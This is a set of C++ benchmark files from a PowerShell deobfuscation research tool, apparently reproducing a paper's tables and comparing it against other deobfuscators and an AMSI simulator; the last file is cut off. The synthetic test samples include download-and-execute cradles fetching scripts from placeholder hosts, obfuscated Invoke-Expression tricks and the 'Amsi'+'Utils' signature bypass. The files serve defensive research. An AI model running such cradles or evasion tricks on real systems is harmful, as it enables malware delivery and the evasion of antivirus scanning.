      "Table IV: Behavior consistency\n"
      "(Effective = changed script with identical network behavior)");
  const std::vector<int> widths = {22, 16, 12, 12, 14};
  bench::row({"Tool", "#WithNetwork", "#Effective", "Proportion", "Paper"},
             widths);
  bench::row({"OriginData", std::to_string(with_network.size()), "-", "-", "32"},
             widths);

  const char* paper[] = {"8 (25%)", "8 (25%)", "12 (37.5%)", "0 (0%)",
                         "32 (100%)"};
  int tool_index = 0;
  for (const auto& tool : make_all_tools()) {
    int has_net = 0, effective = 0;
    for (std::size_t i = 0; i < with_network.size(); ++i) {
      const Sample& s = *with_network[i];
      const BaselineResult r = tool->run(s.obfuscated);
      const BehaviorProfile after = sandbox.run(r.script);
      if (after.has_network()) ++has_net;
      const bool changed = r.script != s.obfuscated;
      if (changed && Sandbox::same_network_behavior(originals[i], after)) {
        ++effective;
      }
    }
    bench::row({tool->name(), std::to_string(has_net), std::to_string(effective),
                bench::pct(static_cast<double>(effective) /
                           std::max<std::size_t>(1, with_network.size())),
                paper[tool_index++]},
               widths);
  }
  std::printf(
      "\nPaper shape: 100%% of Invoke-Deobfuscation's results behave like the\n"
      "originals; regex tools drop or break many samples, Li et al.'s wrong\n"
      "replacement destroys the network behavior entirely.\n");
}

void BM_SandboxRun(benchmark::State& state) {
  CorpusGenerator gen(4);
  const Sample s = gen.generate();
  Sandbox sandbox;
  for (auto _ : state) {
    benchmark::DoNotOptimize(sandbox.run(s.obfuscated));
  }
}
BENCHMARK(BM_SandboxRun)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
