// Reproduces the section V-B comparison with AMSI: the Antimalware Scan
// Interface observes only the script buffers that reach the engine, so it
// recovers invoked layers but never pieces that are not executed — the
// 'Amsi'+'Utils' bypass. Our static tool recovers both.

#include "bench_common.h"

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "sandbox/amsi.h"

namespace {

using namespace ideobf;

const std::string kMarker = "amsi-marker-4417";

bool ours_sees(const std::string& script) {
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(script);
  return ps::to_lower(out).find(ps::to_lower(kMarker)) != std::string::npos;
}

void print_table() {
  bench::heading(
      "Section V-B: AMSI simulator vs Invoke-Deobfuscation\n"
      "(seen = the hidden marker becomes visible to the scanner / analyst)");
  const std::vector<int> widths = {22, 34, 8, 8};
  bench::row({"Technique", "Placement", "AMSI", "Ours"}, widths);

  Obfuscator obf(808);
  const Technique kString[] = {Technique::Concat, Technique::Reorder,
                               Technique::Base64Encoding, Technique::Bxor,
                               Technique::SecureString};

  int amsi_invoked = 0, ours_invoked = 0, amsi_latent = 0, ours_latent = 0;
  for (Technique t : kString) {
    std::string expr;
    do {
      expr = obf.obfuscate_literal(t, "Write-Host '" + kMarker + "'");
    } while (expr.find(kMarker) != std::string::npos);

    // Invoked: the obfuscated payload reaches the engine via iex.
    const std::string invoked = "iex (" + expr + ")";
    const bool amsi_a = amsi_scan(invoked).sees(kMarker);
    const bool ours_a = ours_sees(invoked);
    amsi_invoked += amsi_a;
    ours_invoked += ours_a;
    bench::row({std::string(to_string(t)), "invoked (iex layer)",
                amsi_a ? "seen" : "-", ours_a ? "seen" : "-"}, widths);

    // Latent: the payload is built but never supplied to the engine —
    // exactly the AMSI bypass the paper describes.
    const std::string latent = "$sig = " + expr + "\nWrite-Host $sig.Length";
    const bool amsi_b = amsi_scan(latent).sees(kMarker);
    const bool ours_b = ours_sees(latent);
    amsi_latent += amsi_b;
    ours_latent += ours_b;
    bench::row({std::string(to_string(t)), "latent (never invoked)",
                amsi_b ? "seen" : "-", ours_b ? "seen" : "-"}, widths);
  }

  std::printf(
      "\nInvoked layers:  AMSI %d/5, ours %d/5 (paper: 'similar abilities')\n"
      "Latent payloads: AMSI %d/5, ours %d/5 (paper: AMSI 'cannot obtain the\n"
      "deobfuscated pieces' when they are not invoked)\n",
      amsi_invoked, ours_invoked, amsi_latent, ours_latent);

  // The paper's concrete example: 'Amsi'+'Utils' evades a string signature.
  const std::string bypass = "$u = 'Amsi'+'Utils'\n[void]$u";
  const bool amsi_sees_it = amsi_scan(bypass).sees("AmsiUtils");
  InvokeDeobfuscator deobf;
  const bool ours_sees_it =
      deobf.deobfuscate(bypass).find("AmsiUtils") != std::string::npos;
  std::printf("\n'Amsi'+'Utils' signature: AMSI %s, ours %s\n",
              amsi_sees_it ? "seen" : "BYPASSED",
              ours_sees_it ? "seen" : "BYPASSED");
}

void BM_AmsiScan(benchmark::State& state) {
  Obfuscator obf(9);
  const std::string script =
      "iex (" + obf.obfuscate_literal(Technique::Base64Encoding,
                                      "Write-Host 'payload'") + ")";
  for (auto _ : state) {
    benchmark::DoNotOptimize(amsi_scan(script));
  }
}
BENCHMARK(BM_AmsiScan);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
