// Reproduces Fig 5: the number of key information items (ps1 files,
// PowerShell commands, URLs, IPs) each tool recovers from 100 obfuscated
// scripts, against the manual (ground-truth) benchmark.

#include "bench_common.h"

#include "analysis/keyinfo.h"
#include "baselines/baseline.h"
#include "corpus/corpus.h"

namespace {

using namespace ideobf;

constexpr std::size_t kSamples = 100;

struct Totals {
  int ps1 = 0;
  int pwsh = 0;
  int urls = 0;
  int ips = 0;
  [[nodiscard]] int total() const { return ps1 + pwsh + urls + ips; }
};

Totals count_recovered(const KeyInfo& truth, const KeyInfo& found) {
  Totals t;
  for (const auto& p : truth.ps1_files) t.ps1 += found.ps1_files.count(p) ? 1 : 0;
  for (const auto& u : truth.urls) t.urls += found.urls.count(u) ? 1 : 0;
  for (const auto& i : truth.ips) t.ips += found.ips.count(i) ? 1 : 0;
  t.pwsh = std::min(truth.powershell_commands, found.powershell_commands);
  return t;
}

void print_table() {
  CorpusGenerator gen(100);
  const auto samples = gen.generate_batch(kSamples);

  Totals manual;
  for (const Sample& s : samples) {
    manual.ps1 += static_cast<int>(s.ground_truth.ps1_files.size());
    manual.urls += static_cast<int>(s.ground_truth.urls.size());
    manual.ips += static_cast<int>(s.ground_truth.ips.size());
    manual.pwsh += s.ground_truth.powershell_commands;
  }

  bench::heading(
      "Fig 5: Number of key information items recovered by each tool\n"
      "(100 generated obfuscated scripts; 'Manual' = ground truth)");
  const std::vector<int> widths = {22, 8, 12, 8, 8, 8, 12};
  bench::row({"Tool", "ps1", "PowerShell", "URL", "IP", "Total", "%ofManual"},
             widths);
  bench::row({"Manual", std::to_string(manual.ps1), std::to_string(manual.pwsh),
              std::to_string(manual.urls), std::to_string(manual.ips),
              std::to_string(manual.total()), "100.0%"},
             widths);

  for (const auto& tool : make_all_tools()) {
    Totals t;
    for (const Sample& s : samples) {
      const BaselineResult r = tool->run(s.obfuscated);
      const KeyInfo found = extract_key_info(r.script);
      const Totals rec = count_recovered(s.ground_truth, found);
      t.ps1 += rec.ps1;
      t.urls += rec.urls;
      t.ips += rec.ips;
      t.pwsh += rec.pwsh;
    }
    bench::row({tool->name(), std::to_string(t.ps1), std::to_string(t.pwsh),
                std::to_string(t.urls), std::to_string(t.ips),
                std::to_string(t.total()),
                bench::pct(static_cast<double>(t.total()) /
                           std::max(1, manual.total()))},
               widths);
  }
  std::printf(
      "\nPaper shape: Invoke-Deobfuscation recovers more than twice the key\n"
      "information of any other tool; 96.8%% of its results match manual.\n");
}

void BM_ExtractKeyInfo(benchmark::State& state) {
  CorpusGenerator gen(5);
  const Sample s = gen.generate();
  for (auto _ : state) {
    benchmark::DoNotOptimize(extract_key_info(s.obfuscated));
  }
}
BENCHMARK(BM_ExtractKeyInfo);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
