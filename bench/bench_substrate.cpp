// Substrate throughput microbenchmarks: tokenizer, parser, interpreter and
// codec performance over realistic script sizes — the cost model behind the
// Fig 6 efficiency claims.

#include "bench_common.h"

#include "corpus/corpus.h"
#include "pslang/lexer.h"
#include "psast/parser.h"
#include "psinterp/deflate.h"
#include "psinterp/encodings.h"
#include "psinterp/interpreter.h"

namespace {

using namespace ideobf;

std::string sample_script(std::size_t approx_bytes) {
  CorpusGenerator gen(99);
  std::string out;
  while (out.size() < approx_bytes) {
    out += gen.generate().obfuscated;
    out += "\n";
  }
  return out;
}

void BM_Tokenize(benchmark::State& state) {
  const std::string script = sample_script(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    bool ok = true;
    benchmark::DoNotOptimize(ps::tokenize_lenient(script, ok));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(script.size()));
}
BENCHMARK(BM_Tokenize)->Arg(1 << 10)->Arg(16 << 10)->Arg(128 << 10);

void BM_Parse(benchmark::State& state) {
  const std::string script = sample_script(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(ps::try_parse(script));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(script.size()));
}
BENCHMARK(BM_Parse)->Arg(1 << 10)->Arg(16 << 10)->Arg(128 << 10);

void BM_InterpretExpression(benchmark::State& state) {
  ps::Interpreter interp;
  const std::string expr =
      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
      "'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG8AbQAvAHgA'))";
  for (auto _ : state) {
    benchmark::DoNotOptimize(interp.evaluate_script(expr));
  }
}
BENCHMARK(BM_InterpretExpression);

void BM_DeflateRoundTrip(benchmark::State& state) {
  const std::string text = sample_script(static_cast<std::size_t>(state.range(0)));
  const ps::ByteVec data(text.begin(), text.end());
  for (auto _ : state) {
    const auto packed = ps::deflate_compress(data);
    benchmark::DoNotOptimize(ps::inflate(packed));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_DeflateRoundTrip)->Arg(16 << 10)->Arg(256 << 10);

void BM_Base64RoundTrip(benchmark::State& state) {
  const std::string text = sample_script(static_cast<std::size_t>(state.range(0)));
  const ps::ByteVec data(text.begin(), text.end());
  for (auto _ : state) {
    benchmark::DoNotOptimize(ps::base64_decode(ps::base64_encode(data)));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(data.size()));
}
BENCHMARK(BM_Base64RoundTrip)->Arg(64 << 10);

}  // namespace

int main(int argc, char** argv) {
  bench::heading("Substrate throughput (tokenizer / parser / interpreter / codecs)");
  return bench::run_benchmarks(argc, argv);
}
