// Reproduces Table III: ability to handle multiple layers of obfuscation.
// Twelve multi-layer samples mirror the wild mix: 2 plain-literal layers
// (within reach of simple overriding), 6 variable-free expression layers
// (PowerDecode's unary-syntax-tree model), and 4 variable-indirected or
// automatic-variable-invoked layers that need variable tracing.

#include "bench_common.h"

#include "baselines/baseline.h"
#include "corpus/corpus.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psast/parser.h"

namespace {

using namespace ideobf;

struct LayeredSample {
  std::string script;
  std::string truth_url;  // must reappear in a correct recovery
};

std::string quote(const std::string& s) {
  std::string out = "'";
  for (char c : s) {
    if (c == '\'') out += "''";
    else out.push_back(c);
  }
  return out + "'";
}

std::vector<LayeredSample> build_samples() {
  std::vector<LayeredSample> samples;
  CorpusGenerator gen(303);
  Obfuscator obf(303);

  auto inner_of = [&](bool oneliner) {
    Sample s;
    do {
      s = Sample{};
      CorpusGenerator g(gen.families().size() + samples.size() * 17 + 5);
      // Deterministic per-index inner scripts with a URL ground truth.
      s.original = oneliner
                       ? "(New-Object Net.WebClient).DownloadString('http://host" +
                             std::to_string(samples.size()) +
                             ".test/x.ps1') | Invoke-Expression\n"
                       : "$u = 'http://host" + std::to_string(samples.size()) +
                             ".test/stage.ps1'\n$wc = New-Object Net.WebClient\n"
                             "Invoke-Expression ($wc.DownloadString($u))\n";
      s.ground_truth = extract_key_info(s.original);
    } while (s.ground_truth.urls.empty());
    return s;
  };

  // --- 2 plain-literal layers ---
  for (int i = 0; i < 2; ++i) {
    const Sample inner = inner_of(/*oneliner=*/i == 0);
    LayeredSample ls;
    ls.truth_url = *inner.ground_truth.urls.begin();
    ls.script = quote(inner.original) + " | IeX";
    samples.push_back(std::move(ls));
  }

  // --- 6 variable-free expression layers ---
  const Technique kExpr[] = {Technique::Concat,  Technique::Reorder,
                             Technique::Replace, Technique::Concat,
                             Technique::Reorder, Technique::Concat};
  for (int i = 0; i < 6; ++i) {
    const Sample inner = inner_of(false);
    LayeredSample ls;
    ls.truth_url = *inner.ground_truth.urls.begin();
    ls.script = "iex (" + obf.obfuscate_literal(kExpr[i], inner.original) + ")";
    samples.push_back(std::move(ls));
  }

  // --- 4 layers needing variable tracing / automatic variables ---
  for (int i = 0; i < 4; ++i) {
    const Sample inner = inner_of(false);
    LayeredSample ls;
    ls.truth_url = *inner.ground_truth.urls.begin();
    switch (i) {
      case 0:
        ls.script = "$stage = " + quote(inner.original) + "\niex $stage";
        break;
      case 1:
        ls.script = "$p1 = " +
                    obf.obfuscate_literal(Technique::Base64Encoding,
                                          inner.original) +
                    "\nInvoke-Expression $p1";
        break;
      case 2:
        ls.script = ".($pshome[4]+$pshome[30]+'x') " + quote(inner.original);
        break;
      default:
        ls.script = "$cmd = " + quote(inner.original) +
                    "\n& ($env:ComSpec[4,24,25] -join '') $cmd";
        break;
    }
    samples.push_back(std::move(ls));
  }
  return samples;
}

bool recovered(const LayeredSample& sample, const std::string& output) {
  if (output == sample.script) return false;
  if (!ps::is_valid_syntax(output)) return false;
  // Correct recovery must expose the IOC *and* reconstruct the downloader
  // as code: DownloadString has to reappear as a member token, not merely
  // inside a still-wrapped string payload or an execution trace.
  if (ps::to_lower(output).find(ps::to_lower(sample.truth_url)) ==
      std::string::npos) {
    return false;
  }
  bool ok = true;
  for (const auto& t : ps::tokenize_lenient(output, ok)) {
    if (t.type == ps::TokenType::Member &&
        ps::iequals(t.content, "downloadstring")) {
      return true;
    }
  }
  return false;
}

void print_table() {
  const auto samples = build_samples();
  bench::heading(
      "Table III: Ability to handle multiple layers of obfuscation\n"
      "(12 multi-layer samples; recovered = valid output exposing the URL)");
  const std::vector<int> widths = {22, 10, 12, 14};
  bench::row({"Tool", "#Samples", "Proportion", "Paper"}, widths);
  const char* paper[] = {"2 (16.7%)", "1 (8.3%)", "8 (66.7%)", "0 (0%)",
                         "12 (100%)"};
  int tool_index = 0;
  for (const auto& tool : make_all_tools()) {
    int hits = 0;
    for (const LayeredSample& s : samples) {
      const BaselineResult r = tool->run(s.script);
      if (recovered(s, r.script)) ++hits;
    }
    bench::row({tool->name(), std::to_string(hits),
                bench::pct(static_cast<double>(hits) / samples.size()),
                paper[tool_index++]},
               widths);
  }
}

void BM_OursMultilayer(benchmark::State& state) {
  const auto samples = build_samples();
  auto ours = make_invoke_deobfuscation();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ours->run(samples[7].script));
  }
}
BENCHMARK(BM_OursMultilayer)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
