// Ablation study over the design choices DESIGN.md calls out: each pipeline
// phase (token pass, AST recovery + variable tracing, multi-layer
// unwrapping, rename/reformat) is disabled in turn and the effect measured
// on key-information recovery and obfuscation-score reduction — quantifying
// what each of the paper's three phases contributes.

#include "bench_common.h"

#include "analysis/keyinfo.h"
#include "analysis/scorer.h"
#include "core/deobfuscator.h"
#include "corpus/corpus.h"

namespace {

using namespace ideobf;

constexpr std::size_t kSamples = 100;

struct Config {
  std::string name;
  Options options;
};

std::vector<Config> configs() {
  std::vector<Config> out;
  {
    Config c{"full pipeline", {}};
    out.push_back(c);
  }
  {
    Config c{"- token pass", {}};
    c.options.token_pass = false;
    out.push_back(c);
  }
  {
    Config c{"- AST recovery", {}};
    c.options.ast_recovery = false;
    out.push_back(c);
  }
  {
    Config c{"- multilayer", {}};
    c.options.multilayer = false;
    out.push_back(c);
  }
  {
    Config c{"- rename/reformat", {}};
    c.options.rename = false;
    c.options.reformat = false;
    out.push_back(c);
  }
  {
    Config c{"token pass only", {}};
    c.options.ast_recovery = false;
    c.options.multilayer = false;
    c.options.rename = false;
    c.options.reformat = false;
    out.push_back(c);
  }
  return out;
}

void print_table() {
  CorpusGenerator gen(100);
  const auto samples = gen.generate_batch(kSamples);

  int manual_total = 0;
  int score_before = 0;
  for (const Sample& s : samples) {
    manual_total += s.ground_truth.total();
    score_before += obfuscation_score(s.obfuscated);
  }

  bench::heading(
      "Ablation: contribution of each Invoke-Deobfuscation phase\n"
      "(100 samples; KeyInfo% = recovered key information vs ground truth;\n"
      " ScoreCut% = obfuscation-score reduction)");
  const std::vector<int> widths = {20, 12, 12};
  bench::row({"Configuration", "KeyInfo%", "ScoreCut%"}, widths);

  for (const Config& config : configs()) {
    InvokeDeobfuscator deobf(config.options);
    int recovered = 0;
    int score_after = 0;
    for (const Sample& s : samples) {
      const std::string out = deobf.deobfuscate(s.obfuscated);
      recovered += s.ground_truth.recovered_in(extract_key_info(out));
      score_after += obfuscation_score(out);
    }
    bench::row({config.name,
                bench::pct(static_cast<double>(recovered) /
                           std::max(1, manual_total)),
                bench::pct(1.0 - static_cast<double>(score_after) /
                                     std::max(1, score_before))},
               widths);
  }
  std::printf(
      "\nExpected shape: AST recovery (with variable tracing) carries most of\n"
      "the recovery power; the token pass and multilayer unwrapping each add\n"
      "a distinct slice; rename/reformat affects readability, not recovery.\n");
}

void BM_FullPipeline(benchmark::State& state) {
  CorpusGenerator gen(3);
  const Sample s = gen.generate();
  InvokeDeobfuscator deobf;
  for (auto _ : state) {
    benchmark::DoNotOptimize(deobf.deobfuscate(s.obfuscated));
  }
}
BENCHMARK(BM_FullPipeline)->Unit(benchmark::kMillisecond);

void BM_TokenPassOnly(benchmark::State& state) {
  CorpusGenerator gen(3);
  const Sample s = gen.generate();
  Options opts;
  opts.ast_recovery = false;
  opts.multilayer = false;
  opts.rename = false;
  opts.reformat = false;
  InvokeDeobfuscator deobf(opts);
  for (auto _ : state) {
    benchmark::DoNotOptimize(deobf.deobfuscate(s.obfuscated));
  }
}
BENCHMARK(BM_TokenPassOnly)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
