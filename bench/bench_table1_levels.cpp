// Reproduces Table I: proportion of obfuscation at different levels in the
// wild corpus. The paper measured 1,127,349 QI-ANXIN samples; we measure a
// seeded synthetic corpus calibrated to the same marginals and verify the
// detector recovers them.

#include "bench_common.h"

#include "analysis/scorer.h"
#include "corpus/corpus.h"

namespace {

using namespace ideobf;

constexpr std::size_t kSamples = 1000;

void print_table() {
  CorpusGenerator gen(2021);
  const auto batch = gen.generate_batch(kSamples);

  int applied[4] = {0, 0, 0, 0};
  int detected[4] = {0, 0, 0, 0};
  for (const Sample& s : batch) {
    bool has[4] = {false, false, false, false};
    for (Technique t : s.techniques) has[technique_level(t)] = true;
    if (s.layers > 0) has[3] = true;  // a wrapped layer hides the body (L3)
    for (int level = 1; level <= 3; ++level) applied[level] += has[level];

    const ObfuscationFindings f = detect_obfuscation(s.obfuscated);
    for (int level = 1; level <= 3; ++level) {
      bool d = f.count_at_level(level) > 0;
      if (level == 3 && s.layers > 0) d = true;
      detected[level] += d;
    }
  }

  bench::heading(
      "Table I: Proportion of obfuscation at different levels\n"
      "(paper: wild corpus of 1,127,349 samples; here: " +
      std::to_string(kSamples) + " generated samples, seed 2021)");
  bench::row({"Level", "#Applied", "Proportion", "Detected@surface", "Paper"},
             {8, 10, 12, 18, 10});
  const char* paper_vals[4] = {"", "98.07%", "97.84%", "96.08%"};
  for (int level = 1; level <= 3; ++level) {
    bench::row({"L" + std::to_string(level), std::to_string(applied[level]),
                bench::pct(static_cast<double>(applied[level]) / kSamples),
                bench::pct(static_cast<double>(detected[level]) / kSamples),
                paper_vals[level]},
               {8, 10, 12, 18, 10});
  }
  std::printf(
      "\n(Detected@surface is lower for inner levels because invocation\n"
      "layers legitimately hide the techniques inside their payloads.)\n");
}

void BM_GenerateSample(benchmark::State& state) {
  CorpusGenerator gen(7);
  for (auto _ : state) {
    benchmark::DoNotOptimize(gen.generate());
  }
}
BENCHMARK(BM_GenerateSample);

void BM_DetectObfuscation(benchmark::State& state) {
  CorpusGenerator gen(7);
  const Sample s = gen.generate();
  for (auto _ : state) {
    benchmark::DoNotOptimize(detect_obfuscation(s.obfuscated));
  }
}
BENCHMARK(BM_DetectObfuscation);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
