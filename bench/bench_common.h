#pragma once

/// \file bench_common.h
/// Shared reporting helpers for the per-table/figure benchmark binaries.
/// Each binary prints the paper-style rows first, then runs any registered
/// google-benchmark microbenchmarks.

#include <benchmark/benchmark.h>

#include <cstdio>
#include <string>
#include <vector>

namespace bench {

inline void heading(const std::string& title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("================================================================\n");
}

inline void row(const std::vector<std::string>& cells,
                const std::vector<int>& widths) {
  std::string line;
  for (std::size_t i = 0; i < cells.size(); ++i) {
    const int w = i < widths.size() ? widths[i] : 16;
    std::string cell = cells[i];
    if (static_cast<int>(cell.size()) < w) {
      cell.resize(static_cast<std::size_t>(w), ' ');
    }
    line += cell + " ";
  }
  std::printf("%s\n", line.c_str());
}

inline std::string pct(double fraction) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.1f%%", fraction * 100.0);
  return buf;
}

inline std::string fixed(double v, int digits = 2) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.*f", digits, v);
  return buf;
}

/// Prints the table, then hands over to google-benchmark.
inline int run_benchmarks(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}

}  // namespace bench
