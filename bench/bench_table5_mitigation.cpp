// Reproduces Table V: mitigation of obfuscation on the highest-scoring
// scripts. For each tool we count valid deobfuscation results (output
// changed and still parses), the per-level reduction of detected technique
// types, and the average obfuscation-score reduction.

#include "bench_common.h"

#include <algorithm>

#include "analysis/scorer.h"
#include "baselines/baseline.h"
#include "corpus/corpus.h"
#include "psast/parser.h"

namespace {

using namespace ideobf;

constexpr std::size_t kPool = 400;
constexpr std::size_t kSelected = 150;  // "highest obfuscation score" subset

void print_table() {
  CorpusGenerator gen(500);
  auto pool = gen.generate_batch(kPool);
  std::stable_sort(pool.begin(), pool.end(), [](const Sample& a, const Sample& b) {
    return obfuscation_score(a.obfuscated) > obfuscation_score(b.obfuscated);
  });
  pool.resize(kSelected);

  // Level-technique counts of the input set.
  int in_levels[4] = {0, 0, 0, 0};
  int in_score = 0;
  for (const Sample& s : pool) {
    const ObfuscationFindings f = detect_obfuscation(s.obfuscated);
    for (int level = 1; level <= 3; ++level) {
      in_levels[level] += f.count_at_level(level);
    }
    in_score += f.score();
  }

  bench::heading(
      "Table V: Mitigation of obfuscation on the highest-scoring scripts\n"
      "(valid = output changed and still parses; L1/L2/L3 = reduction of\n"
      "detected technique types at that level; last column = avg score cut)");
  const std::vector<int> widths = {22, 8, 8, 8, 8, 14, 20};
  bench::row({"Tool", "#Valid", "L1", "L2", "L3", "ScoreReduced",
              "Paper(ScoreReduced)"},
             widths);
  bench::row({"OriginData", std::to_string(kSelected), "-", "-", "-", "-", "-"},
             widths);

  const char* paper[] = {"14%", "11%", "10.7%", "24%", "46%"};
  int tool_index = 0;
  for (const auto& tool : make_all_tools()) {
    int valid = 0;
    int out_levels[4] = {0, 0, 0, 0};
    int out_score = 0;
    for (const Sample& s : pool) {
      const BaselineResult r = tool->run(s.obfuscated);
      const bool ok = r.script != s.obfuscated && ps::is_valid_syntax(r.script);
      const std::string& effective = ok ? r.script : s.obfuscated;
      if (ok) ++valid;
      const ObfuscationFindings f = detect_obfuscation(effective);
      for (int level = 1; level <= 3; ++level) {
        out_levels[level] += f.count_at_level(level);
      }
      out_score += f.score();
    }
    auto mitigation = [&](int level) {
      if (in_levels[level] == 0) return std::string("-");
      return bench::pct(1.0 - static_cast<double>(out_levels[level]) /
                                  static_cast<double>(in_levels[level]));
    };
    bench::row({tool->name(), std::to_string(valid), mitigation(1), mitigation(2),
                mitigation(3),
                bench::pct(1.0 - static_cast<double>(out_score) /
                                     std::max(1, in_score)),
                paper[tool_index++]},
               widths);
  }
  std::printf(
      "\nPaper shape: Invoke-Deobfuscation has the most valid results, the\n"
      "strongest L1/L2 mitigation, and cuts the average score by ~46%%.\n");
}

void BM_ScoreHighObfuscation(benchmark::State& state) {
  CorpusGenerator gen(9);
  const Sample s = gen.generate();
  for (auto _ : state) {
    benchmark::DoNotOptimize(obfuscation_score(s.obfuscated));
  }
}
BENCHMARK(BM_ScoreHighObfuscation);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
