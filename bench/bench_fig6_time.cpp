// Reproduces Fig 6: per-sample deobfuscation time of each tool over the
// 100-script corpus. Reported time = real compute time + the simulated cost
// of commands the tool executed while deobfuscating (sleeps, network I/O),
// which is what makes the execution-based tools spike in the paper.

#include "bench_common.h"

#include <algorithm>
#include <chrono>

#include "baselines/baseline.h"
#include "corpus/corpus.h"

namespace {

using namespace ideobf;

constexpr std::size_t kSamples = 100;

void print_table() {
  CorpusGenerator gen(100);
  const auto samples = gen.generate_batch(kSamples);

  bench::heading(
      "Fig 6: Deobfuscation time of different tools over 100 scripts\n"
      "(seconds; total = real compute + simulated execution cost)");
  const std::vector<int> widths = {22, 10, 10, 10, 10, 12};
  bench::row({"Tool", "avg", "p50", "p90", "max", ">10s samples"}, widths);

  for (const auto& tool : make_all_tools()) {
    std::vector<double> times;
    times.reserve(samples.size());
    for (const Sample& s : samples) {
      const auto start = std::chrono::steady_clock::now();
      const BaselineResult r = tool->run(s.obfuscated);
      const auto end = std::chrono::steady_clock::now();
      const double real =
          std::chrono::duration<double>(end - start).count();
      times.push_back(real + r.simulated_seconds);
    }
    std::sort(times.begin(), times.end());
    double sum = 0;
    int slow = 0;
    for (double t : times) {
      sum += t;
      if (t > 10.0) ++slow;
    }
    bench::row({tool->name(), bench::fixed(sum / times.size(), 3),
                bench::fixed(times[times.size() / 2], 3),
                bench::fixed(times[times.size() * 9 / 10], 3),
                bench::fixed(times.back(), 3), std::to_string(slow)},
               widths);
  }
  std::printf(
      "\nPaper shape: Invoke-Deobfuscation averages 1.04 s with max < 4 s on\n"
      "a Windows VM; the other tools fluctuate heavily and exceed 10 s on\n"
      "sleepy/networky samples because they execute unrelated commands.\n"
      "Our substrate is much faster in absolute terms; the *stability* and\n"
      "the baselines' execution-cost spikes are the reproduced effect.\n");
}

void BM_OursDeobfuscate(benchmark::State& state) {
  CorpusGenerator gen(6);
  const Sample s = gen.generate();
  auto ours = make_invoke_deobfuscation();
  for (auto _ : state) {
    benchmark::DoNotOptimize(ours->run(s.obfuscated));
  }
}
BENCHMARK(BM_OursDeobfuscate)->Unit(benchmark::kMillisecond);

void BM_PSDecodeDeobfuscate(benchmark::State& state) {
  CorpusGenerator gen(6);
  const Sample s = gen.generate();
  auto tool = make_psdecode();
  for (auto _ : state) {
    benchmark::DoNotOptimize(tool->run(s.obfuscated));
  }
}
BENCHMARK(BM_PSDecodeDeobfuscate)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table();
  return bench::run_benchmarks(argc, argv);
}
