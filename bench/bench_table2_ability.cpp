// Reproduces Table II: deobfuscation ability of the five tools across every
// known technique, each tested in the paper's three placement positions
// (separate line, assignment expression, part of a pipe).

#include "bench_common.h"

#include "analysis/randomness.h"
#include "baselines/baseline.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psast/parser.h"

namespace {

using namespace ideobf;

const std::string kMarker = "hello-marker-9731";

bool contains_cs(std::string_view haystack, std::string_view needle) {
  return haystack.find(needle) != std::string_view::npos;
}
bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

/// One ability probe: the obfuscated script for a position plus the
/// predicate deciding whether a tool's output recovered it.
struct Probe {
  std::string script;
  bool (*recovered)(const std::string&);
  bool valid = true;
};

bool no_random_identifiers(const std::string& out) {
  bool ok = true;
  std::vector<std::string> names;
  for (const auto& t : ps::tokenize_lenient(out, ok)) {
    if (t.type == ps::TokenType::Variable &&
        t.content.find(':') == std::string::npos && t.content.size() > 1) {
      names.push_back(std::string(t.content));
    }
  }
  return names.empty() || !names_look_random(names);
}

std::vector<Probe> probes_for(Technique t, Obfuscator& obf) {
  std::vector<Probe> probes;

  auto string_positions = [&](const std::string& piece) {
    probes.push_back({piece, [](const std::string& o) {
                        return contains_cs(o, kMarker);
                      }});
    probes.push_back({"$tmp = " + piece, [](const std::string& o) {
                        return contains_cs(o, kMarker);
                      }});
    probes.push_back({piece + " | Out-Null", [](const std::string& o) {
                        return contains_cs(o, kMarker);
                      }});
  };

  switch (t) {
    case Technique::Ticking: {
      std::string piece;
      do {
        piece = obf.apply(t, "write-host hello");
      } while (piece.find('`') == std::string::npos);
      auto check = [](const std::string& o) {
        return o.find('`') == std::string::npos &&
               contains_ci(o, "write-host hello");
      };
      probes.push_back({piece, check});
      probes.push_back({"$tmp = " + piece, check});
      probes.push_back({piece + " | Out-Null", check});
      return probes;
    }
    case Technique::Whitespacing: {
      const std::string piece = "write-host      hello";
